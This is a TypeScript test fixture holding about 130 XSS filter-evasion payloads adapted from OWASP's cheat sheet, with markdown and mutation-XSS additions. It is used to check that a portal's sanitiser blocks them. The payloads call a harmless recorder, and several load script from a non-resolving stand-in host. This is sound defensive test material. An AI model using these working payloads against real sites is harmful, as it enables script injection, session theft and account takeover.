// The XSS filter-evasion vectors the xss e2e test plants in every place the portal shows user text.
// Source: the OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), its vectors in its
// order, plus the markdown-specific and mutation-XSS forms a markdown renderer meets. Changes from the
// sheet, so a vector proves something here:
// - `alert('XSS')` becomes `__xss(<id>)`: the test's page defines `window.__xss` and records every
//   call, so a vector that runs is named in the failure, not just seen as "a dialog opened";
// - remote hosts (xss.rocks, ha.ckers.org) become `xss.invalid`, which never resolves: a vector that
//   survives sanitising is caught in the DOM (no <script>, <link>, <style>, <object>, … may appear),
//   the network is never needed;
// - vectors with a NUL byte are left out: the API refuses NUL anywhere in input (400, tested in the
//   API's own suite), so they cannot be stored to be shown.
// Each vector is a function of the JavaScript it should run, so encoded forms encode the real call.

export interface XssVector {
  id: number;
  name: string;
  payload: string;
}

const decimal = (s: string, pad = 0, semi = true) => [...s].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, "0")}${semi ? ";" : ""}`).join("");
const hex = (s: string, semi = false) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()}${semi ? ";" : ""}`).join("");
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const charCodes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(",");
const cssEscape = (s: string) => [...s].map((c) => `\\${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const HOST = "xss.invalid";

/** [name, (js) => payload]; ids are assigned in order, from 1. */
const TEMPLATES: [string, (js: string) => string][] = [
  // Basic and polyglot
  ["basic script", (js) => `<SCRIPT SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["inline script", (js) => `<script>${js}</script>`],
  ["script, mixed case", (js) => `<ScRiPt>${js}</sCrIpT>`],
  ["polyglot", (js) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`],
  // Image and javascript: URLs in every form
  ["img javascript:", (js) => `<IMG SRC="javascript:${js};">`],
  ["img javascript: no quotes", (js) => `<IMG SRC=javascript:${js}>`],
  ["img javascript: case", (js) => `<IMG SRC=JaVaScRiPt:${js}>`],
  ["img html entities", (js) => `<IMG SRC=javascript:${js.replace(/\(/g, "(&quot;").replace(/\)/g, "&quot;)")}>`],
  ["img grave accents", (js) => `<IMG SRC=\`javascript:${js}\`>`],
  ["malformed a tag onmouseover", (js) => `\\<a onmouseover="${js}"\\>xxs link\\</a\\>`],
  ["malformed a tag, no quotes", (js) => `\\<a onmouseover=${js}\\>xxs link\\</a\\>`],
  ["malformed img tag", (js) => `<IMG """><SCRIPT>${js}</SCRIPT>"\\>`],
  ["fromCharCode", (js) => `<IMG SRC=javascript:eval(String.fromCharCode(${charCodes(js)}))>`],
  ["default src onmouseover", (js) => `<IMG SRC=# onmouseover="${js}">`],
  ["empty src onmouseover", (js) => `<IMG SRC= onmouseover="${js}">`],
  ["no src onmouseover", (js) => `<IMG onmouseover="${js}">`],
  ["onerror", (js) => `<IMG SRC=/ onerror="${js}"></img>`],
  ["onerror encoded", (js) => `<img src=x onerror="${decimal(js, 7, false)}">`],
  ["decimal entities", (js) => `<IMG SRC=${decimal(`javascript:${js}`)}>`],
  ["decimal entities, padded, no semicolons", (js) => `<IMG SRC=${decimal(`javascript:${js}`, 7, false)}>`],
  ["hex entities, no semicolons", (js) => `<IMG SRC=${hex(`javascript:${js}`)}>`],
  ["embedded tab", (js) => `<IMG SRC="jav\tascript:${js};">`],
  ["embedded encoded tab", (js) => `<IMG SRC="jav&#x09;ascript:${js};">`],
  ["embedded newline", (js) => `<IMG SRC="jav&#x0A;ascript:${js};">`],
  ["embedded carriage return", (js) => `<IMG SRC="jav&#x0D;ascript:${js};">`],
  ["spaces and meta chars before javascript:", (js) => `<IMG SRC=" &#14;  javascript:${js};">`],
  ["non-alpha-non-digit script", (js) => `<SCRIPT/XSS SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["non-alpha-non-digit body", (js) => `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${js}>`],
  ["non-alpha-non-digit script src", (js) => `<SCRIPT/SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["extraneous open brackets", (js) => `<<SCRIPT>${js};//\\<</SCRIPT>`],
  ["no closing script tag", () => `<SCRIPT SRC=http://${HOST}/xss.js?< B >`],
  ["protocol resolution", () => `<SCRIPT SRC=//${HOST}/.j>`],
  ["half open html", (js) => `<IMG SRC="\`<javascript:${js}>\`"`],
  ["double open angle", () => `<iframe src=http://${HOST}/scriptlet.html <`],
  ["escaping javascript escapes", (js) => `\\";${js};//`],
  ["end title tag", (js) => `</TITLE><SCRIPT>${js};</SCRIPT>`],
  ["input image", (js) => `<INPUT TYPE="IMAGE" SRC="javascript:${js};">`],
  ["body background", (js) => `<BODY BACKGROUND="javascript:${js}">`],
  ["img dynsrc", (js) => `<IMG DYNSRC="javascript:${js}">`],
  ["img lowsrc", (js) => `<IMG LOWSRC="javascript:${js}">`],
  ["list-style-image", (js) => `<STYLE>li {list-style-image: url("javascript:${js}");}</STYLE><UL><LI>XSS</br>`],
  ["vbscript image", () => `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ["svg onload", (js) => `<svg/onload=${js}>`],
  ["ecmascript 6 tagged template", (js) => `Set.constructor\`${js}\`\`\``],
  ["body onload", (js) => `<BODY ONLOAD=${js}>`],
  // Event handlers (a selection from the sheet's list, each reachable without a click)
  ["input autofocus onfocus", (js) => `<input autofocus onfocus=${js}>`],
  ["select autofocus onfocus", (js) => `<select autofocus onfocus=${js}></select>`],
  ["textarea autofocus onfocus", (js) => `<textarea autofocus onfocus=${js}></textarea>`],
  ["details ontoggle", (js) => `<details open ontoggle=${js}><summary>s</summary></details>`],
  ["video source onerror", (js) => `<video><source onerror="${js}"></video>`],
  ["audio onerror", (js) => `<audio src=x onerror=${js}>`],
  ["marquee onstart", (js) => `<marquee onstart=${js}>m</marquee>`],
  ["svg animate onbegin", (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`],
  ["body onpageshow", (js) => `<body onpageshow=${js}>`],
  ["div onpointerover", (js) => `<div onpointerover="${js}">hover</div>`],
  ["custom element onclick", (js) => `<x onclick=${js}>click me</x>`],
  ["object javascript:", (js) => `<object data="javascript:${js}"></object>`],
  ["form button formaction", (js) => `<form><button formaction="javascript:${js}">go</button></form>`],
  ["isindex", (js) => `<isindex action="javascript:${js}" type=submit>`],
  // Legacy and style-based
  ["bgsound", (js) => `<BGSOUND SRC="javascript:${js};">`],
  ["& javascript includes", (js) => `<BR SIZE="&{${js}}">`],
  ["stylesheet link", (js) => `<LINK REL="stylesheet" HREF="javascript:${js};">`],
  ["remote stylesheet", () => `<LINK REL="stylesheet" HREF="http://${HOST}/xss.css">`],
  ["style @import", () => `<STYLE>@import'http://${HOST}/xss.css';</STYLE>`],
  ["meta link header", () => `<META HTTP-EQUIV="Link" Content="<http://${HOST}/xss.css>; REL=stylesheet">`],
  ["style -moz-binding", () => `<STYLE>BODY{-moz-binding:url("http://${HOST}/xssmoz.xml#xss")}</STYLE>`],
  ["style broken-up javascript", (js) => `<STYLE>@im\\port'\\ja\\vasc\\ript:${js}';</STYLE>`],
  ["style attribute comment in expression", (js) => `<IMG STYLE="xss:expr/*XSS*/ession(${js})">`],
  ["anchor style expression", (js) => `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(${js})'>`],
  ["style type text/javascript", (js) => `<STYLE TYPE="text/javascript">${js};</STYLE>`],
  ["style class background-image", (js) => `<STYLE>.XSS{background-image:url("javascript:${js}");}</STYLE><A CLASS=XSS></A>`],
  ["style body background", (js) => `<STYLE type="text/css">BODY{background:url("javascript:${js}")}</STYLE>`],
  ["div background-image", (js) => `<DIV STYLE="background-image: url(javascript:${js})">`],
  ["div background-image unicoded", (js) => `<DIV STYLE="background-image:${cssEscape(`url('javascript:${js}')`)}">`],
  ["div background-image extra characters", (js) => `<DIV STYLE="background-image: url(&#1;javascript:${js})">`],
  ["div expression", (js) => `<DIV STYLE="width: expression(${js});">`],
  ["downlevel-hidden block", (js) => `<!--[if gte IE 4]><SCRIPT>${js};</SCRIPT><![endif]-->`],
  ["base href", (js) => `<BASE HREF="javascript:${js};//">`],
  ["object scriptlet", () => `<OBJECT TYPE="text/x-scriptlet" DATA="http://${HOST}/scriptlet.html"></OBJECT>`],
  ["embed svg with script", (js) => `<EMBED SRC="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${js}</script></svg>`)}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`],
  ["xml data island", (js) => `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:${js}"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`],
  ["locally hosted xml", () => `<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`],
  ["html+time", (js) => `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>${js}</SCRIPT>"></BODY></HTML>`],
  ["script src renamed extension", () => `<SCRIPT SRC="http://${HOST}/xss.jpg"></SCRIPT>`],
  ["server side includes", () => `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://${HOST}/xss.js></SCRIPT>'"-->`],
  ["php", (js) => `<? echo('<SCR)'; echo('IPT>${js}</SCRIPT>'); ?>`],
  ["meta set-cookie", (js) => `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>${js}</SCRIPT>">`],
  ["quote encapsulation 1", (js) => `<SCRIPT a=">" SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["quote encapsulation 2", (js) => `<SCRIPT =">" SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["quote encapsulation 3", (js) => `<SCRIPT a=">" '' SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["quote encapsulation 4", (js) => `<SCRIPT "a='>'" SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["quote encapsulation 5", (js) => `<SCRIPT a=\`>\` SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["quote encapsulation 6", (js) => `<SCRIPT a=">'>" SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["document.write split", (js) => `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="data:text/javascript,${js}"></SCRIPT>`],
  ["meta refresh javascript:", (js) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${js};">`],
  ["meta refresh data: base64", (js) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${b64(`<script>opener.${js}</script>`)}">`],
  ["meta refresh extra url", (js) => `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:${js};">`],
  ["iframe javascript:", (js) => `<IFRAME SRC="javascript:parent.${js};"></IFRAME>`],
  ["iframe event", (js) => `<IFRAME SRC=# onmouseover="${js}"></IFRAME>`],
  ["iframe srcdoc", (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`],
  ["iframe data:", (js) => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`],
  ["frameset", (js) => `<FRAMESET><FRAME SRC="javascript:parent.${js};"></FRAMESET>`],
  ["table background", (js) => `<TABLE BACKGROUND="javascript:${js}">`],
  ["td background", (js) => `<TABLE><TD BACKGROUND="javascript:${js}">`],
  ["anonymous element style expression", (js) => `<XSS STYLE="xss:expression(${js})">`],
  ["anonymous element behavior", () => `<XSS STYLE="behavior: url(xss.htc);">`],
  ["us-ascii encoding", () => "¼script¾alert(¢XSS¢)¼/script¾"],
  // data: URLs
  ["data: html anchor", (js) => `<a href="data:text/html;base64,${b64(`<script>opener.${js}</script>`)}">data anchor</a>`],
  ["object data: base64", (js) => `<object data="data:text/html;base64,${b64(`<script>parent.${js}</script>`)}"></object>`],
  ["svg image data:", (js) => `<svg><image href="data:image/svg+xml,<svg onload='parent.${js}'/>"/></svg>`],
  // SVG and MathML
  ["svg script", (js) => `<svg><script>${js}</script></svg>`],
  ["svg anchor xlink:href", (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">XSS</text></a></svg>`],
  ["svg set attribute", (js) => `<svg><a><set attributeName="href" to="javascript:${js}"/><text x="20" y="20">set</text></a></svg>`],
  ["math xlink:href", (js) => `<math><mi xlink:href="javascript:${js}">math</mi></math>`],
  // Mutation XSS (parser round trips)
  ["noscript title breakout", (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`],
  ["svg style breakout", (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
  ["math mglyph style", (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`],
  ["template content", (js) => `<template><img src=x onerror=${js}></template>`],
  ["textarea breakout", (js) => `</textarea><script>${js}</script>`],
  ["comment breakout", (js) => `--><script>${js}</script><!--`],
  ["attribute breakout", (js) => `"><img src=x onerror=${js}>`],
  // Markdown forms
  ["markdown link javascript:", (js) => `[click me](javascript:${js})`],
  ["markdown link entity colon", (js) => `[colon](javascript&#58;${js})`],
  ["markdown link entity j", (js) => `[ent](&#x6A;avascript:${js})`],
  ["markdown link case", (js) => `[case](JaVaScRiPt:${js})`],
  ["markdown link tab", (js) => `[tab](java\tscript:${js})`],
  ["markdown link comment newline", (js) => `[nl](javascript://%0a${js})`],
  ["markdown link leading space", (js) => `[sp]( javascript:${js})`],
  ["markdown link angle brackets", (js) => `[ab](<javascript:${js}>)`],
  ["markdown autolink javascript:", (js) => `<javascript:${js}>`],
  ["markdown reference link", (js) => `[ref link][evil${js.length}]\n\n[evil${js.length}]: javascript:${js}`],
  ["markdown image javascript:", (js) => `![pic](javascript:${js})`],
  ["markdown image onerror breakout", (js) => `![pic](x"onerror="${js})`],
  ["markdown link title breakout", (js) => `[t](https://example.com "title\\" onmouseover=\\"${js}")`],
  ["markdown data: link", (js) => `[data md](data:text/html;base64,${b64(`<script>opener.${js}</script>`)})`],
  ["markdown vbscript: link", () => `[vb](vbscript:msgbox(1))`],
];

export const XSS_VECTORS: XssVector[] = TEMPLATES.map(([name, make], i) => ({ id: i + 1, name, payload: make(`__xss(${i + 1})`) }));
